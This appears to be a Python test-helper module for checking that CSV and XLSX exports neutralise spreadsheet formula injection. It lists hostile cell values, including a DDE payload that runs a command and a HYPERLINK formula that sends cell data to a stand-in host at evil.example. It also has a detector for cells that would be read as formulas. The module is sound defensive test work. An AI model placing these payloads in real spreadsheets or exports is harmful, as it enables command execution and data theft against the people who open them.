"""Exported files as a reader sees them, and the text that people with bad intentions would type."""

import csv
import io
import json
import unicodedata
import zipfile
from typing import Any

from openpyxl import load_workbook

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1f@x",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}x",
    "\N{SMALL EQUALS SIGN}1+1",
    "\N{SMALL PLUS SIGN}1",
    "\N{SMALL HYPHEN-MINUS}1",
    "\N{SMALL COMMERCIAL AT}x",
    "\N{MINUS SIGN}1",
    "\N{SUPERSCRIPT EQUALS SIGN}1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=1+1;=2+2",
    '","=1+1',
    "harmless\n=1+1",
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]>&amp;",
]
LIVE = "=+-@\t\r\n\N{MINUS SIGN}"


def is_live(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula; written apart from what is tried."""
    stripped = "".join(one for one in text if unicodedata.category(one)[0] != "C" or one in "\t\r\n")
    plain = unicodedata.normalize("NFKC", stripped)
    return plain[:1] in tuple(LIVE) or plain.lstrip()[:1] in tuple(LIVE)


def csv_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    """The rows of a CSV."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def xlsx_rows(content: bytes) -> dict[str, list[list[Any]]]:
    """The rows of each sheet of a workbook; a formula cell anywhere fails."""
    sheets = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        rows = list(sheet.iter_rows())
        assert [cell.coordinate for row in rows for cell in row if cell.data_type == "f"] == []
        sheets[sheet.title] = [[cell.value for cell in row] for row in rows]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name), name
    return sheets


def live_cells(content: bytes, format_: str) -> list[str]:
    """Every cell of a CSV or XLSX that a spreadsheet could take for a formula; numbers are none."""
    if format_ == "csv":
        rows: list[list[Any]] = csv_rows(content)
    else:
        rows = [row for sheet in xlsx_rows(content).values() for row in sheet]
    return [cell for row in rows for cell in row if isinstance(cell, str) and is_live(cell) and not is_number(cell)]


def is_number(text: str) -> bool:
    """Whether a CSV's cell is a plain number, such as -0.25."""
    try:
        float(text)
    except ValueError:
        return False
    return text.isascii() and text == text.strip()


def json_rows(content: bytes) -> dict[str, list[dict[str, Any]]]:
    """The tables of a JSON export."""
    found: dict[str, list[dict[str, Any]]] = json.loads(content)
    return found
